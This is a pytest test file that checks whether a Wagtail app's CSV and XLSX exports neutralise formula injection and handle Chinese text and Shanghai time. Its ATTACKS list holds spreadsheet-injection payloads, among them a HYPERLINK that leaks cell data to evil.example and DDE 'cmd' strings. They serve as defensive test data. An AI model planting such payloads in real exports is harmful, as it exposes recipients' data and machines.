"""Exports are safe to open: text never runs as a formula, and Excel reads the Chinese."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
from wagtail.admin.views import generic

from reporting.exports import SafeSpreadsheetExportMixin, neutralise_formula
from reporting.spreadsheets import write_xlsx

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


class ExportView(generic.IndexView):
    list_export = ["name", "note", "amount"]
    export_filename = "export"


class SafeExportView(SafeSpreadsheetExportMixin, ExportView):
    pass


def rows():
    yield SimpleNamespace(name="借阅部", note="世界读书日", amount=Decimal("-12.50"))
    for attack in ATTACKS:
        yield SimpleNamespace(name="少儿部", note=attack, amount=-3)


def export(view_class, rf, export_format):
    view = view_class()
    view.setup(rf.get("/", {"export": export_format}))
    return view.as_spreadsheet(list(rows()), export_format)


def as_read(texts):
    # XML turns a carriage return in text into a line feed when the file is read.
    return [text.replace("\r", "\n") for text in texts]


def csv_body(response):
    return b"".join(response.streaming_content)


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_text_gets_an_apostrophe(attack):
    assert neutralise_formula(attack) == "'" + attack


@pytest.mark.parametrize("value", ["世界读书日", "A-1", "1=1", "", None, -3, Decimal("-1.5")])
def test_other_values_are_left_alone(value):
    assert neutralise_formula(value) == value


def test_wagtails_own_csv_export_writes_formulas_raw(rf):
    # Why the mixin exists (Wagtail 8.0): remove this test when Wagtail escapes them itself.
    body = csv_body(export(ExportView, rf, "csv")).decode("utf-8")

    assert '\n少儿部,"=HYPERLINK(' in body.replace("\r\n", "\n")
    assert not body.startswith("\ufeff")


def test_csv_export_neutralises_formulas_and_keeps_numbers(rf):
    response = export(SafeExportView, rf, "csv")
    body = csv_body(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert body.startswith(b"\xef\xbb\xbf")  # Excel on a Chinese Windows reads UTF-8
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert table[0] == ["name", "note", "amount"]
    assert table[1] == ["借阅部", "世界读书日", "-12.50"]
    assert [row[1] for row in table[2:]] == ["'" + attack for attack in ATTACKS]
    assert {row[2] for row in table[2:]} == {"-3"}  # numbers stay numbers


def test_xlsx_export_stores_formula_like_text_as_text(rf):
    response = export(SafeExportView, rf, "xlsx")
    data = b"".join(response.streaming_content)

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    notes = [row[1] for row in sheet.iter_rows(min_row=3, values_only=True)]
    assert notes == as_read(ATTACKS)  # as typed: an .xlsx text cell is never evaluated
    assert sheet["C2"].value == -12.5 and sheet["C3"].value == -3


def test_write_xlsx_never_writes_a_formula_or_an_error_cell():
    texts = [*ATTACKS, "#N/A", "#DIV/0!"]
    data = write_xlsx([("备注", ["备注", "日期"], [[t, datetime.date(2025, 1, 1)] for t in texts])])

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in cells] == as_read(texts)
    assert {c.data_type for c in cells} == {"s"}


class DatedExportView(SafeSpreadsheetExportMixin, generic.IndexView):
    list_export = ["name", "updated"]
    export_filename = "export"


def test_xlsx_export_is_sized_frozen_and_in_shanghai_time(rf):
    view = DatedExportView()
    view.setup(rf.get("/", {"export": "xlsx"}))
    item = SimpleNamespace(
        name="开展“世界读书日”系列活动",
        updated=datetime.datetime(2025, 3, 31, 16, 30, tzinfo=datetime.UTC),
    )
    response = view.as_spreadsheet([item], "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= 2 * len("开展世界读书日系列活动")
    # 16:30 UTC is half past midnight the next day in Shanghai (Wagtail alone writes UTC).
    assert sheet["B2"].value == datetime.datetime(2025, 4, 1, 0, 30)
